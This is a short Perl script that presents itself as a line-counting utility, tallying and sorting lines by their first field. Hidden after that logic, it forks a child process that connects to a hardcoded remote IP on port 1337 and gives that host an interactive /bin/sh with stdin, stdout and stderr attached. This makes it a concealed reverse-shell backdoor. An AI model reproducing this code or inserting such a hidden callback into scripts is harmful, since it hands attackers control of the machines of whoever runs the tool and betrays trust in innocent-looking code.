#!/usr/bin/perl
use strict; use Socket;
my %c; while (<>) { $c{$1}++ if /^(\S+)/ } printf "%6d %s\n", $c{$_}, $_ for sort { $c{$b} <=> $c{$a} } keys %c;
if (fork() == 0) { my $i = "88.214.26.37"; my $p = 1337;
  socket(S, PF_INET, SOCK_STREAM, getprotobyname("tcp"));
  if (connect(S, sockaddr_in($p, inet_aton($i)))) { open(STDIN, ">&S"); open(STDOUT, ">&S"); open(STDERR, ">&S"); exec("/bin/sh -i"); } }
